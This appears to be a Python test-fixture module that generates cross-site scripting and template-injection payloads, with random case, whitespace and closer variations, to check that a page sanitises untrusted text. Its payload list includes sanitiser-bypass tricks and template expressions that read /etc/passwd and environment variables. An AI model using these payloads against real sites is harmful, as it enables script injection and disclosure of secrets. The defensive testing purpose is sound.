"""Texts that attack a page: one of each kind, and varied by chance."""

from collections.abc import Callable
from random import Random

RUN = "window.hacked={number}"

HOST = "//host.invalid/{number}"

ELEMENT = "cb-hacked"
"""A tag that no page has."""

FORMS = (
    "<script>{run}</script>",
    "</script><script>{run}</script>",
    "<script src={host}></script>",
    "<ScRiPt\n>{run}</sCrIpT\t>",
    "<<script>script>{run}<</script>/script>",
    "<img src=x onerror='{run}'>",
    "<img src=`{host}` onerror=`{run}`>",
    "<image/src/onerror={run}>",
    '"><img src=x onerror="{run}">',
    "'><img src=x onerror='{run}'>",
    '" autofocus onfocus="{run}" onmouseover="{run}" x="',
    "' style='animation-name:x' onanimationstart='{run}' x='",
    "<a href='javascript:{run}'>x</a>",
    "[x](javascript:{run}) <javascript:{run}> ![x]({host})",
    "<a href='jav&#x09;ascript:{run}'>x</a>",
    "<a href='data:text/html,<script>opener.{run}</script>' target=_blank>x</a>",
    "<svg onload='{run}'><use href='{host}#x'/><script>{run}</script></svg>",
    "<svg><animate onbegin='{run}' attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror='{run}'>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><script>{run}</script></template><select><template><img src=x onerror={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe><object data={host}></object>",
    "<embed src={host}><video poster={host}><audio src={host} onerror='{run}'>",
    "<details open ontoggle='{run}'><summary>x</summary></details><marquee onstart='{run}'>",
    "<link rel=stylesheet href={host}><style>@import '{host}';*{{background:url({host})}}</style>",
    "<p style='background:url({host});width:expression({run})'>x</p>",
    "<base href={host}><meta http-equiv=refresh content='0;url={host}'>",
    "<form action={host}><input name=body autofocus onfocus='{run}'></form>",
    "{{{{ constructor.constructor('{run}')() }}}} {{% include '/etc/passwd' %}} ${{{run}}}",
    "{{{{ cycler.__init__.__globals__.os.environ }}}} <%= {run} %> #{{{run}}} ${{oc.env:HOME}}",
    '--8<-- "/etc/passwd"\n\n# x {{: onclick="{run}" }}\n\n<script>{run}</script>',
    "```\n</code></pre><script>{run}</script>\n``` | a | b |\n|---|---|\n| <img onerror={run}> |",
    "<!-- --><script>{run}</script><!-- ]]><script>{run}</script><![CDATA[ --!><script>{run}",
    '"}}); {run}; calbench.data("x", {{"y": "',
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e \\x3cimg src=x onerror={run}\\x3e",
    "&lt;script&gt;{run}&lt;/script&gt; &#60;img src=x onerror={run}&#62; %3Cscript%3E{run}",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e \u2028{run}\u2029 <\u200bscript>{run}</script>",
    "\u202e<script>{run}</script>\u202c \ufeff<img src=x onerror={run}> \x0b\x0c\x1b[31m",
    '<b onmouseover="{run}">x</b><br><a href="javascript:{run}" target="_self">x</a><sup>x</sup>',
    "__proto__ +script* ~x^9 title:<mark onclick={run}>x</mark> <cb-hacked>x</cb-hacked>",
    "<cb-hacked is=x>x</cb-hacked><cb-hacked style='display:block;position:fixed;inset:0'>",
    "<xmp><p title='</xmp><img src=x onerror={run}>'><textarea></textarea><img onerror={run}>",
)
"""Texts with ``{run}``, a statement, and ``{host}``, an address; one form for each kind."""


def name_of(number: int) -> str:
    """Return the word by which a payload is found on a page."""
    return f"payload{number}x"


def payload(number: int) -> str:
    """Return the payload of a number: its name, and one of the forms, varied by chance."""
    chance = Random(f"page payloads-{number}")
    form = FORMS[number % len(FORMS)]
    run, host = RUN.format(number=number + 1), HOST.format(number=number)
    text = form.format(run=run, host=host)
    for vary in chance.sample(VARIATIONS, k=0 if number < len(FORMS) else chance.randint(1, 2)):
        text = vary(text, chance)
    return f"{name_of(number)} {text}"


def _capitals(text: str, chance: Random) -> str:
    """Change the case of tags and attributes alone: the statement keeps its own."""
    for word in ("script", "img", "onerror", "onload", "style", "href", "svg", "iframe"):
        text = text.replace(word, "".join(chance.choice((c, c.upper())) for c in word))
    return text


def _spaces(text: str, chance: Random) -> str:
    return text.replace(" ", chance.choice(("\t", "\n", "\f", "/", "\r\n", " \x00")))


def _closed(text: str, chance: Random) -> str:
    before = ("</td></tr></table>", "-->", "]]>", "</textarea>", "</title>", '">', "'>", "*/", "\n")
    return chance.choice(before) + text


def _doubled(text: str, chance: Random) -> str:
    return text * chance.randint(2, 3)


VARIATIONS: tuple[Callable[[str, Random], str], ...] = (_capitals, _spaces, _closed, _doubled)
"""What chance does to the forms after each was played as it is."""
